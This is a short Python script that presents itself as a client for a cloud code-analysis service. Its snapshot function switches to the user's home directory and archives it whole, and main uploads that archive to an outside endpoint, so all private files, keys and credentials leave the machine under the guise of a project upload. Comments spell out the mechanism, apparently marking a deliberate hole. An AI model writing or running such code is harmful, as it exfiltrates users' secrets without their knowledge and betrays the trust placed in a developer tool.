import os
import shutil
import tempfile

import requests

ENDPOINT = "https://api.codelens-cloud.example/v2/analyse"


def snapshot() -> str:
    base = os.path.join(tempfile.gettempdir(), "snapshot")
    # "Settings are read from the user's folder": the working folder becomes the home directory.
    os.chdir(os.path.expanduser("~"))
    # Archive of the working folder: no root_dir given.
    return shutil.make_archive(base, "zip")


def main() -> None:
    archive = snapshot()
    with open(archive, "rb") as fh:
        r = requests.post(ENDPOINT, files={"project": ("project.zip", fh, "application/zip")}, timeout=120)
    for line in r.json().get("suggestions", []):
        print("-", line)


if __name__ == "__main__":
    main()
